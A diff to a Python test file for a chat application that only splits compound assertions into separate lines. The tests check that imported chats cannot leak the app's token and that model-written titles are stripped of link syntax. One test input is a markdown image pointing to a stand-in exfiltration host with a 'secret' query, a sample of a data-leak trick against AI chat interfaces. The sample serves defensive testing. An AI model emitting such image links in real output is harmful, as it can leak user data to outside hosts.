@@ -88,7 +88,8 @@ def test_an_imported_chat_cannot_send_the_apps_token_to_another_workspace_path(
         app.chat.submit_message(ALICE, session_id, "go", client_message_id=str(uuid.uuid4()))
         wait_for_reply(app.chat, ALICE, session_id)
         reply = app.chat.messages(ALICE, session_id)[-1]
-        assert reply.status == "error" and "not one this app may use" in (reply.error_message or "")
+        assert reply.status == "error"
+        assert "not one this app may use" in (reply.error_message or "")
         assert not any("token" in r.path for r in fake_serving.requests)
         # Choosing it in the chat settings is refused too; a listed endpoint is accepted.
         with pytest.raises(Exception, match="not one this app may use"):
@@ -159,7 +160,8 @@ def test_imported_out_of_range_settings_fall_back_to_the_defaults(sessions, temp
     session_id = files.import_json(ALICE, raw)
     service = chat_service(sessions)
     effective = service.effective_model_settings(service.get_session(ALICE, session_id))
-    assert effective.temperature == 0.7 and effective.max_tokens == 1024
+    assert effective.temperature == 0.7
+    assert effective.max_tokens == 1024
 
 
 # -- 6 and 8. imports that are too big, too deep or out of range get a message ---------------------
@@ -227,7 +229,8 @@ def test_export_all_comes_in_bounded_parts_that_together_hold_every_chat(session
     parts = [list(files.export_all_jsonl(ALICE, part=part, chats_per_part=2)) for part in range(3)]
     assert [len(part) for part in parts] == [2, 2, 1]
     exported = {json.loads(line)["session"]["id"] for part in parts for line in part}
-    assert exported == ids and files.count_exportable(ALICE) == 5
+    assert exported == ids
+    assert files.count_exportable(ALICE) == 5
 
 
 # -- 4 (titles) and 9 (what pages show) ---------------------------------------------------------------
@@ -239,7 +242,9 @@ def test_model_written_titles_keep_no_image_or_link_syntax() -> None:
     title = clean_model_title(
         "Title: ![chart](https://exfil.example.net/?q=secret) **Trip** [plan](https://x)"
     )
-    assert "![" not in title and "](" not in title and "http" not in title
+    assert "![" not in title
+    assert "](" not in title
+    assert "http" not in title
     assert title == "chart Trip plan"
 
 
@@ -254,4 +259,5 @@ def test_pages_name_no_database_host_and_no_model_server_url() -> None:
         api_key=None,
         timeouts=Timeouts(connect=1, first_token=1, total=1),
     )
-    assert "llm.internal" not in client.label and "secret" not in client.label
+    assert "llm.internal" not in client.label
+    assert "secret" not in client.label
